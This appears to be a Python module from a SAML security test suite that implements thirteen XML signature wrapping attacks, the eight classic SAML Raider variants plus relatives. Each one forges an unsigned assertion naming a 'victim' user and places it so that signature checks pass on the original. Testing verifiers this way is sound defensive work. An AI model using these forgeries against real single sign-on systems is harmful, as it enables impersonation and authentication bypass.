"""Signature wrapping: what is signed is carried along where a verifier finds it, and something else stands where a reader looks.

The eight classic forms (Somorovsky and others, "On Breaking SAML", 2012; numbered as SAML Raider has them), and their relatives.
"""

from collections.abc import Callable, Mapping
from copy import deepcopy
from typing import Any, Final

from lxml import etree

from belsimple.attack.saml_answers import Answers
from belsimple.sso.saml.names import ds, saml, samlp

Place = Callable[[Any, Any, Any], None]
"""Puts the third, a forged assertion that is not signed, in or around the first, a response, or the second, its signed assertion."""


def _assertion(place: Place) -> Callable[[Answers], None]:
    def as_sent(document: str) -> str:
        response = etree.fromstring(document.encode())
        original = response.find(saml("Assertion"))
        evil = _victims(original)
        evil.remove(_signature(evil))
        place(response, original, evil)
        return etree.tostring(response).decode()

    return lambda answers: setattr(answers, "as_sent", as_sent)


def _response(place: Callable[[Any, Any], None]) -> Callable[[Answers], None]:
    """The same with the response and its signature: the forged one carries it, and the original somewhere in itself."""

    def as_sent(document: str) -> str:
        original = etree.fromstring(document.encode())
        evil = _victims(original)
        original.remove(_signature(original))
        place(evil, original)
        return etree.tostring(evil).decode()

    def forge(answers: Answers) -> None:
        answers.signs_response, answers.as_sent = True, as_sent

    return forge


def _victims(original: Any) -> Any:
    """It says that it is somebody else, and has another id."""
    evil = deepcopy(original)
    evil.find(f".//{saml('NameID')}").text = "victim"
    evil.set("ID", "_evil")
    return evil


def _signature(element: Any) -> Any:
    return element.find(ds("Signature"))


def _before(_: Any, original: Any, evil: Any) -> None:
    original.addprevious(evil)


def _around(_: Any, original: Any, evil: Any) -> None:
    original.addprevious(evil)
    evil.append(original)


def _with_its_signature(_: Any, original: Any, evil: Any) -> None:
    original.addprevious(evil)
    evil.insert(1, _signature(original))


def _within_its_signature(_: Any, original: Any, evil: Any) -> None:
    original.addprevious(evil)
    evil.insert(1, _signature(original))
    _signature(evil).append(original)


def _in_extensions(response: Any, _: Any, evil: Any) -> None:
    extensions = response.makeelement(samlp("Extensions"))
    response.insert(1, extensions)
    evil.set("ID", "_assertion")
    extensions.append(evil)


def _in_an_object(_: Any, original: Any, evil: Any) -> None:
    original.addprevious(evil)
    evil.insert(1, _signature(original))
    holder = evil.makeelement(ds("Object"))
    holder.append(original)
    _signature(evil).append(holder)


def _same_id(_: Any, original: Any, evil: Any) -> None:
    evil.set("ID", "_assertion")
    original.addprevious(evil)


def _within(_: Any, original: Any, evil: Any) -> None:
    original.append(evil)


def _both_signed(_: Any, original: Any, __: Any) -> None:
    original.addnext(deepcopy(original))


def _another_kind_of_id(_: Any, original: Any, evil: Any) -> None:
    del evil.attrib["ID"]
    evil.set("Id", "_assertion")
    original.addprevious(evil)


WRAPPED: Final[Mapping[str, Callable[[Answers], None]]] = {
    "1, the response within its signature": _response(lambda evil, original: _signature(evil).append(original)),
    "2, the response before its signature": _response(lambda evil, original: _signature(evil).addprevious(original)),
    "3, the assertion after another": _assertion(_before),
    "4, the assertion within another": _assertion(_around),
    "5, another with its signature": _assertion(_with_its_signature),
    "6, another with it in its signature": _assertion(_within_its_signature),
    "7, another in Extensions": _assertion(_in_extensions),
    "8, another with it in an Object": _assertion(_in_an_object),
    "another after it": _assertion(lambda _, original, evil: original.addnext(evil)),
    "another within it": _assertion(_within),
    "the same twice": _assertion(_both_signed),
    "another of the same id": _assertion(_same_id),
    "another whose id is called otherwise": _assertion(_another_kind_of_id),
}
